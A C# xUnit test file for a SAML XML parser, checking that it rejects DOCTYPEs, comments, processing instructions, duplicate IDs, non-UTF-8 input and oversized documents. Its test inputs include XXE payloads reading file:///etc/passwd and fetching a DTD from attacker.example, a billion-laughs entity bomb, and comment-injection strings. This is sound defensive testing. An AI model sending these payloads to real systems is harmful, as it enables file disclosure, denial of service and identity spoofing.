using System.Text;
using Gatehouse.Wire.Saml;
using Xunit;

namespace Gatehouse.Tests.Wire.Saml;

public sealed class SamlXmlTests
{
    [Theory]
    [InlineData("<!DOCTYPE a><a/>", SamlError.Doctype)]
    [InlineData("<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>", SamlError.Doctype)]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", SamlError.Doctype)]
    [InlineData("<!DOCTYPE a SYSTEM 'http://attacker.example/a.dtd'><a/>", SamlError.Doctype)]
    [InlineData("<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>", SamlError.Doctype)]
    [InlineData("<!DOCTYPE a [<!ATTLIST a ID CDATA 'x'>]><a/>", SamlError.Doctype)]
    [InlineData("<a><?php x?></a>", SamlError.ProcessingInstruction)]
    [InlineData("<?xml-stylesheet href='x'?><a/>", SamlError.ProcessingInstruction)]
    [InlineData("<a/><?x?>", SamlError.ProcessingInstruction)]
    [InlineData("<a><!-- x --></a>", SamlError.Comment)]
    [InlineData("<!-- x --><a/>", SamlError.Comment)]
    [InlineData("<a/><!-- x -->", SamlError.Comment)]
    [InlineData("<a>&x;</a>", SamlError.Malformed)]
    [InlineData("<a></b>", SamlError.Malformed)]
    [InlineData("<a/><b/>", SamlError.Malformed)]
    [InlineData("<a", SamlError.Malformed)]
    [InlineData("", SamlError.Malformed)]
    [InlineData("text", SamlError.Malformed)]
    [InlineData("<a x='1' x='2'/>", SamlError.Malformed)]
    [InlineData("<a p:x='1' q:x='2' xmlns:p='u' xmlns:q='u'/>", SamlError.Malformed)]
    [InlineData("<p:a/>", SamlError.Malformed)]
    [InlineData("<a xmlns:xml='urn:x'/>", SamlError.Malformed)]
    [InlineData("<a xmlns:p=''/>", SamlError.Malformed)]
    [InlineData("<a>&#0;</a>", SamlError.Malformed)]
    [InlineData("<a>\u0001</a>", SamlError.Malformed)]
    [InlineData("<a>\uFFFE</a>", SamlError.Malformed)]
    [InlineData("<?xml version='1.1'?><a/>", SamlError.Malformed)]
    [InlineData("<?xml version='1.0' encoding='utf-16'?><a/>", SamlError.NotUtf8)]
    [InlineData("<?xml version='1.0' encoding='utf-7'?><a/>", SamlError.NotUtf8)]
    [InlineData("<?xml version='1.0' encoding='iso-8859-1'?><a/>", SamlError.NotUtf8)]
    [InlineData("<a ID='x'><b ID='x'/></a>", SamlError.DuplicateId)]
    [InlineData("<a ID='x'><b Id='x'/></a>", SamlError.DuplicateId)]
    [InlineData("<a ID='x'><b id='x'/></a>", SamlError.DuplicateId)]
    [InlineData("<a ID='x'><b xml:id='x'/></a>", SamlError.DuplicateId)]
    [InlineData("<a ID='x' Id='x'/>", SamlError.DuplicateId)]
    public void Documents_that_must_not_pass(string xml, SamlError expected) => Assert.Equal(expected, SamlKit.ErrorOf(xml));

    [Fact]
    public void Other_encodings_are_refused()
    {
        foreach (var bytes in (byte[][])[Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<a/>")).ToArray(), Encoding.BigEndianUnicode.GetBytes("<a/>"), [.. "<a>"u8, 0xC0, 0x80, .. "</a>"u8], [.. "<a>"u8, 0xED, 0xA0, 0x80, .. "</a>"u8], [.. "<a>"u8, 0xE9, .. "</a>"u8]])
            Assert.False(SamlXml.TryRead(bytes, SamlLimits.Message, out _, out _));
    }

    [Fact]
    public void Too_large_is_told_from_malformed()
    {
        Assert.Equal(SamlError.TooLarge, SamlKit.ErrorOf("<a>" + new string('x', 600_000) + "</a>"));
        Assert.Equal(SamlError.TooLarge, SamlKit.ErrorOf(string.Concat(Enumerable.Repeat("<a>", 33)) + string.Concat(Enumerable.Repeat("</a>", 33))));
        Assert.Equal(SamlError.TooLarge, SamlKit.ErrorOf("<a " + string.Join(' ', Enumerable.Range(0, 65).Select(i => $"a{i}=''")) + "/>"));
        Assert.Equal(SamlError.TooLarge, SamlKit.ErrorOf("<a>" + string.Concat(Enumerable.Repeat("<b/>", 20_001)) + "</a>"));
        SamlKit.Read(string.Concat(Enumerable.Repeat("<a>", 32)) + string.Concat(Enumerable.Repeat("</a>", 32)));
    }

    [Fact]
    public void A_comment_never_cuts_a_text()
    {
        Assert.Equal(SamlError.Comment, SamlKit.ErrorOf("<a>user@a.com<!---->.evil.com</a>"));
        Assert.True(SamlXml.TryRead("<a>user@a.com<!---->.evil.com</a>"u8, SamlLimits.Metadata, out var root, out _));
        Assert.Equal("user@a.com.evil.com", Assert.Single(root.Children).Text);
        Assert.Equal("user@a.com.evil.com", Assert.Single(SamlKit.Read("<a>user@a.com<![CDATA[.evil]]>.com</a>").Children).Text);
    }

    [Fact]
    public void Namespaces_attributes_and_texts_are_kept()
    {
        var root = SamlKit.Read("\uFEFF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<p:a xmlns:p='u' xmlns='d' x='1' p:x='2'>\r\n<b xml:lang='ur'>\u0645\U0001F600&#xE9;&amp;&#13;</b></p:a>");
        Assert.True(root.Is("u", "a"));
        Assert.Equal("1", root["x"]);
        var b = Assert.Single(root.Elements("d", "b"));
        Assert.Equal("\u0645\U0001F600\u00e9&\r", Assert.Single(b.Children).Text);
        Assert.Equal("\n", root.Children[0].Text);
        Assert.Equal(root.ToString(), SamlKit.Read(root.ToString()).ToString());
    }

    [Fact]
    public void Random_bytes_never_throw()
    {
        var random = new Random(7);
        var seed = Encoding.UTF8.GetBytes("<?xml version='1.0'?><p:a xmlns:p='u' ID='x'><b Id='y'>t&amp;&#65;<![CDATA[c]]></b></p:a>");
        for (var i = 0; i < 3000; i++)
        {
            var bytes = (byte[])seed.Clone();
            for (var j = 0; j < 1 + i % 4; j++) bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            SamlXml.TryRead(bytes, SamlLimits.Message, out _, out _);
        }
    }
}
